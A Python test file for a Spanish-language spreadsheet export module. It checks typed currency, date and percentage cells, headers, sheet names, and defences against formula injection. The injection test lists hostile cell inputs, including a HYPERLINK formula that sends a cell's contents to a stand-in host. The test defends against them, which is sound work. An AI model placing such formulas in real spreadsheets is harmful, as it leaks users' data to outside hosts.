import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from nucleo.hojas import FORMATO_CLP, FORMATO_FECHA, Columna, Libro, Tipo, interpretar
from tests.libreoffice import con_suma, hojas_como_csv

HIPERVINCULO = '=HYPERLINK("http://ejemplo.invalid/?d="&C4,"ver")'
PELIGROSOS = [HIPERVINCULO, "+56 9 1234 5678", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]
COLUMNAS = [
    Columna("Nombre"),
    Columna("Monto", Tipo.CLP),
    Columna("Fecha", Tipo.FECHA),
    Columna("Avance", Tipo.PORCENTAJE),
]


def _libro(filas) -> bytes:
    libro = Libro()
    hoja = libro.hoja("Datos")
    hoja.titulo("Listado al 29-01-2027")
    hoja.vacia()
    hoja.tabla(COLUMNAS, filas)
    return libro.bytes()


def test_texto_que_parece_formula_se_escribe_como_texto():
    contenido = _libro([[texto, 1, None, None] for texto in PELIGROSOS])

    hoja = load_workbook(io.BytesIO(contenido))["Datos"]
    xml = zipfile.ZipFile(io.BytesIO(contenido)).read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in xml and b"<f " not in xml
    for fila, texto in enumerate(PELIGROSOS, start=4):
        celda = hoja.cell(fila, 1)
        # XML keeps a line end, not which one: a CR comes back as LF, still text.
        assert (celda.value, celda.data_type) == (texto.replace("\r", "\n"), "s")
        assert celda.quotePrefix


def test_libreoffice_muestra_el_texto_tal_cual_sin_evaluarlo(tmp_path):
    contenido = _libro([[texto, 1, None, None] for texto in PELIGROSOS])

    filas = hojas_como_csv(contenido, tmp_path)["Datos"]

    assert [f[0] for f in filas[3:]] == [t.replace("\r", "\n") for t in PELIGROSOS]


def test_caracteres_que_xml_no_admite_se_quitan_en_vez_de_fallar():
    contenido = _libro([["Acta\x0b con\x01 controles\x1f", 1, None, None]])

    assert load_workbook(io.BytesIO(contenido))["Datos"]["A4"].value == "Acta con controles"


def test_montos_fechas_y_porcentajes_son_celdas_con_tipo_y_formato(tmp_path):
    contenido = _libro(
        [
            ["A", 18_500_000, date(2027, 1, 29), 0.786],
            ["B", "1.500.000", datetime(2027, 2, 1, 10, 30), 0.5],
            ["C", "$250.000", "15-03-2027", "12,5 %"],
        ]
    )

    hoja = load_workbook(io.BytesIO(contenido))["Datos"]
    filas = hojas_como_csv(con_suma(contenido, "Datos", "B4:B6", "B8"), tmp_path)["Datos"]

    assert [hoja.cell(f, 2).value for f in (4, 5, 6)] == [18_500_000, 1_500_000, 250_000]
    assert {hoja.cell(f, 2).number_format for f in (4, 5, 6)} == {FORMATO_CLP}
    assert [hoja.cell(f, 3).value.date() for f in (4, 5, 6)] == [
        date(2027, 1, 29),
        date(2027, 2, 1),
        date(2027, 3, 15),
    ]
    assert {hoja.cell(f, 3).number_format for f in (4, 5, 6)} == {FORMATO_FECHA}
    assert [hoja.cell(f, 4).value for f in (4, 5, 6)] == [0.786, 0.5, 0.125]
    assert [f[2] for f in filas[3:6]] == ["29-01-2027", "01-02-2027", "15-03-2027"]
    assert filas[7][1] == "20250000"  # =SUM over the CLP column: every amount counted


def test_encabezado_fijo_con_filtros_en_la_primera_tabla():
    libro = Libro()
    hoja = libro.hoja("Datos")
    hoja.titulo("Título")
    hoja.vacia()
    hoja.tabla(COLUMNAS, [["A", 1, None, None], ["B", 2, None, None]])
    hoja.vacia()
    hoja.tabla(COLUMNAS, [["C", 3, None, None]])

    leida = load_workbook(io.BytesIO(libro.bytes()))["Datos"]

    assert leida.freeze_panes == "A4"
    assert leida.auto_filter.ref == "A3:D5"
    assert leida["A3"].font.b and leida["A7"].font.b


def test_nombres_de_hoja_se_limpian_y_no_se_repiten():
    libro = Libro()
    for titulo in [
        "1 Red de Empleadores: visitas/encuentros [2026]",
        "1 Red de Empleadores: visitas/encuentros [2026]",
    ]:
        libro.hoja(titulo)

    nombres = load_workbook(io.BytesIO(libro.bytes())).sheetnames

    assert nombres == ["1 Red de Empleadores visitas en", "1 Red de Empleadores visita (2)"]
    assert all(len(n) <= 31 for n in nombres)


@pytest.mark.parametrize(
    ("texto", "esperado"),
    [
        ("$18.500.000", (18_500_000, Tipo.CLP)),
        ("$0", (0, Tipo.CLP)),
        ("-$1.000", (-1000, Tipo.CLP)),
        ("78,6 %", (0.786, Tipo.PORCENTAJE)),
        ("100 %", (1.0, Tipo.PORCENTAJE)),
        ("29-01-2027", (date(2027, 1, 29), Tipo.FECHA)),
        ("31-02-2027", ("31-02-2027", Tipo.TEXTO)),
        ("12 / 15", ("12 / 15", Tipo.TEXTO)),
        ("=1+1", ("=1+1", Tipo.TEXTO)),
        (7, (7, Tipo.ENTERO)),
    ],
)
def test_valores_como_los_muestran_las_paginas_se_interpretan(texto, esperado):
    assert interpretar(texto) == esperado
